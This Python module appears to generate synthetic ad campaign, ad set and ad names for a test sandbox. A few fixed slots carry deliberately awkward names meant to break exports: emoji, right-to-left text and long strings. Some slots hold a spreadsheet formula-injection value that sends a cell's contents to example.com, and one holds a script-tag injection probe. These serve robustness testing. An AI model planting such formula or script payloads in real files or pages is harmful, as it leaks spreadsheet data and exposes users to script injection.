"""Names as teams really write them, and the ones that break exports.

A few slots in each account carry a name that a spreadsheet would run, a page would render or a parser would
split: formulas, markup, quotes, separators, line breaks, emoji, right-to-left text and very long strings.
"""

from __future__ import annotations

import datetime as dt

from sandbox.model import rand

_AUDIENCES = ("Broad", "Lookalike 1%", "Lookalike 3%", "Interest stack", "Website visitors 30d", "Cart leavers 14d",
              "Newsletter list", "Women 25-44", "Men 35-54", "Video viewers 50%", "Past buyers 180d")  # fmt: skip
_FORMATS = ("Video", "Carousel", "Static", "Reel", "UGC", "Collection", "Story")
_HOOKS = ("Founder story", "Before / after", "3 reasons why", "Free shipping", "New arrivals", "Bestsellers",
          "Customer review", "How it works", "Gift guide", "Last chance", "Bundle offer", "Unboxing", "Summer look",
          "Behind the scenes", "Price test")  # fmt: skip
_TITLES = ("Made for the long way home", "Find yours today", "Free returns for 60 days", "Back in stock",
           "Save 15 % on your first order", "Rated 4.8 by 12,000 customers", "Only this week")  # fmt: skip

_AWKWARD_ADS = {
    2: '=HYPERLINK("http://example.com/?x="&A1,"Click me")',
    5: "🔥 Flash sale 🛍️ -30 % 👩‍👩‍👧",
    9: "+49 Hotline – call now",
    13: "-20% off, all sizes; today only",
    17: '@founder talks: "why we started"',
    22: "Line one\nLine two\twith a tab",
    26: "<b>Bold</b> <script>alert('hi')</script>",
    31: "عرض خاص – خصم 20٪ على كل المنتجات",
    38: "Long copy test " + "very " * 60 + "long",
    45: "Comma, semicolon; pipe | and 'quotes'",
    52: "מבצע סוף שבוע",
    61: "夏のキャンペーン 第2弾",
}
_AWKWARD_CAMPAIGNS = {1: "🎯", 2: '"Quoted",', 3: "=SUM(1+1)", 5: "<i>Beta</i>"}


def campaign(account_key: int, slot: int, label: str, countries: tuple[str, ...], start: dt.date) -> str:
    """Objective, market and quarter, in the account's own habit of separators."""
    of = rand.key(account_key, 0xCA9, slot)
    separator = (" | ", " – ", "_")[rand.pick(account_key, 77, 3)]
    quarter = f"{start.year} Q{(start.month + 2) // 3}"
    parts = [countries[rand.pick(of, 1, 2)], label, f"{slot + 1:02d}", quarter]
    awkward = _AWKWARD_CAMPAIGNS.get(slot)
    return separator.join([awkward, *parts] if awkward else parts)


def adset(account_key: int, slot: int, generation: int) -> str:
    """The audience, and the placement choice; a few repeat inside an account, as they do in life."""
    of = rand.key(account_key, 0xAD5E7, slot, generation)
    placements = ("Advantage+ placements", "Feeds", "Reels & Stories")[rand.pick(of, 2, 3)]
    return f"{_AUDIENCES[rand.pick(of, 1, len(_AUDIENCES))]} / {placements}"


def ad(account_key: int, slot: int, ordinal: int, start: dt.date) -> str:
    """Format, hook and launch date; the awkward slots keep their awkward name in every generation."""
    if slot in _AWKWARD_ADS:
        return _AWKWARD_ADS[slot]
    of = rand.key(account_key, 0xAD, slot, ordinal)
    hook = _HOOKS[rand.pick(of, 2, len(_HOOKS))]
    return f"{_FORMATS[rand.pick(of, 1, len(_FORMATS))]} {slot + 1:02d} – {hook} – {start:%d%m%y}"


def title(of: int) -> str:
    """A creative's headline."""
    return _TITLES[rand.pick(of, 5, len(_TITLES))]


def body(of: int) -> str:
    """A creative's text."""
    return f"{_HOOKS[rand.pick(of, 6, len(_HOOKS))]}. {_TITLES[rand.pick(of, 7, len(_TITLES))]}."
